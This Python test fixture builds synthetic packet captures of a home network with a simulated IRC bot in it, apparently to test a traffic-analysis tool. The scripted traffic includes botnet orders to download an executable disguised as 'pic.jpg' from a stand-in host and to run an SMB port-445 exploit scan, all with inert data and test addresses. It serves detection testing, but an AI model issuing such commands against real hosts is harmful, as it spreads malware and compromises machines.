# SPDX-License-Identifier: GPL-3.0-or-later
"""Captures for the tests of `read` and `run --interface`: a network with a bot in it, and the formats that captures come in.
The packets are made by bench/scenarios, the files here."""

import ctypes
import gzip
import os
import struct
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "bench"))
from scenarios import logs, wire  # noqa: E402, F401
from scenarios.irc import Client  # noqa: E402
from scenarios.world import SECOND, START, World, ns  # noqa: E402

HOME = "10.20.0.0/16"
BOT, PEOPLE, SERVED = "10.20.0.23", ("10.20.0.31", "10.20.0.32", "10.20.0.33"), "10.20.0.40"
CONTROLLER, EGG_HOST, RESOLVER = "198.18.9.9", "198.18.7.7", "198.18.0.53"
PROGRAM = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8" + bytes(43) + struct.pack("<I", 0x80) + bytes(64) + \
    b"PE\0\0\x4c\x01\x03\0" + bytes(4000)


def _dns(number, name, address=None):
    body = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0\0\x01\0\x01"
    if address is None:
        return struct.pack("!6H", number, 0x0100, 1, 0, 0, 0) + body
    return struct.pack("!6H", number, 0x8180, 1, 1, 0, 0) + body + b"\xc0\x0c\0\x01\0\x01" + struct.pack("!IH", 300, 4) + \
        wire.packed(address)


def lookup(world, time, host, name, address):
    number = world.random.getrandbits(16)
    world.datagrams(time, host, RESOLVER, 53, [(0, True, _dns(number, name)), (0.01, False, _dns(number, name, address))],
                    service="dns")
    return time + ns(0.02)


def _bot(world, start):
    """Joins IRC on the port of FTP, fetches the program that it is ordered to, and scans as it is ordered to."""
    at = lookup(world, start, BOT, "irc.bots.example", CONTROLLER)
    irc = Client(world, at, BOT, CONTROLLER, "JPN|004213371", port=21)
    irc.welcome().join("#msbots", "slavesofms")
    irc.tcp.wait(2)
    irc.hear("@oper", "#msbots", f".dl http://{EGG_HOST}/pic.jpg c:\\x.exe 1")
    web = world.tcp(irc.now + ns(0.4), BOT, EGG_HOST, 80)
    web.up(f"GET /pic.jpg HTTP/1.1\r\nHost: {EGG_HOST}\r\n\r\n")
    web.down(b"HTTP/1.1 200 OK\r\nContent-Type: image/jpeg\r\nContent-Length: %d\r\n\r\n" % len(PROGRAM) + PROGRAM)
    web.close()
    irc.tcp.until(web.now)
    irc.say("#msbots", "[DOWNLOAD]: Downloaded 4.1 KB to c:\\x.exe @ 4.1 KB/sec.")
    irc.tcp.wait(1)
    irc.hear("@oper", "#msbots", ".advscan asn1smb 100 5 0 -r")
    irc.tcp.wait(0.2).flow  # noqa: B018
    irc.say("#msbots", "[SCAN]: Random Port Scan started on 198.18.x.x:445 with a delay of 5 seconds for 0 minutes.")
    for i in range(120):
        world.silent(irc.now + ns(0.3 + 0.05 * i), BOT, f"198.18.{64 + i // 8}.{1 + 7 * i % 250}", 445, (3.0,))
    irc.tcp.wait(9)
    irc.ping()
    return irc


def _people(world, start, seconds):
    """What is no bot: pages, mail that is looked for, clocks, a server."""
    for k, host in enumerate(PEOPLE):
        at = start + ns(0.3 * (k + 1))
        while at < start + ns(seconds):
            at = lookup(world, at, host, f"www{k}.people.example", f"198.18.3.{k + 1}")
            web = world.tcp(at, host, f"198.18.3.{k + 1}", 80)
            web.up(f"GET /{at % 1000} HTTP/1.1\r\nHost: www{k}.people.example\r\n\r\n")
            web.down(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 2000\r\n\r\n" + b"<p>words</p>" * 166 +
                     b"12345678")
            web.close()
            at = web.now + world.jitter(1.7)
        world.datagrams(start + ns(k), host, "198.18.3.123", 123, [(0, True, b"\x23" + bytes(47)), (0.03, False, b"\x24" * 48)])
    for k in range(6):
        inbound = world.tcp(start + ns(1 + 2 * k), f"198.18.4.{k + 1}", SERVED, 443)
        inbound.up(b"\x16\x03\x01" + bytes(60)).down(b"\x16\x03\x03" + bytes(300)).close()


def network(seconds=20, bot=True, start=START):
    """The frames of a home network, in order of time: (time, bytes)."""
    world = World("a network of people and one bot", start)
    if bot:
        _bot(world, start + ns(1))
    _people(world, start, seconds)
    return in_order(world)


def in_order(world):
    return sorted(world.capture.frames, key=lambda frame: frame[0])


def udp_frames(count, start=START, every=0.001, src="10.20.0.50", dst="198.18.5.5"):
    """Plain datagrams, for amounts."""
    a, b = wire.packed(src), wire.packed(dst)
    body = wire.udp(a, b, 40000, 4000, bytes(64))
    frame = wire.mac_of("10.20.0.1") + wire.mac_of(src) + wire.ip(a, b, wire.UDP, body)
    return [(start + ns(every * i), frame) for i in range(count)]


# --- formats ---

def pcap_header(order="<", nano=False, snaplen=262144, link=1):
    return struct.pack(order + "IHHiIII", 0xa1b23c4d if nano else 0xa1b2c3d4, 2, 4, 0, 0, snaplen, link)


def pcap(frames, order="<", nano=False, link=1):
    record, unit = struct.Struct(order + "IIII"), 1 if nano else 1000
    return pcap_header(order, nano, link=link) + b"".join(
        record.pack(t // SECOND, t % SECOND // unit, len(f), len(f)) + f for t, f in frames)


def _block(order, kind, body):
    body += bytes(-len(body) % 4)
    return struct.pack(order + "II", kind, len(body) + 12) + body + struct.pack(order + "I", len(body) + 12)


def pcapng(frames, order="<"):
    """One section, one interface with nanoseconds."""
    resolution = struct.pack(order + "HHB3xHH", 9, 1, 9, 0, 0)
    head = _block(order, 0x0a0d0d0a, struct.pack(order + "IHHq", 0x1a2b3c4d, 1, 0, -1)) + \
        _block(order, 1, struct.pack(order + "HHI", 1, 0, 262144) + resolution)
    return head + b"".join(_block(order, 6, struct.pack(order + "5I", 0, t >> 32, t & 0xffffffff, len(f), len(f)) + f)
                           for t, f in frames)


def gz(data):
    return gzip.compress(data, 5)


def zst(data):
    """By the library that the program itself is linked to."""
    lib = ctypes.CDLL("libzstd.so.1")
    lib.ZSTD_compressBound.restype = lib.ZSTD_compress.restype = ctypes.c_size_t
    room = ctypes.create_string_buffer(lib.ZSTD_compressBound(ctypes.c_size_t(len(data))))
    n = lib.ZSTD_compress(room, ctypes.c_size_t(len(room)), data, ctypes.c_size_t(len(data)), 3)
    return room.raw[:n]
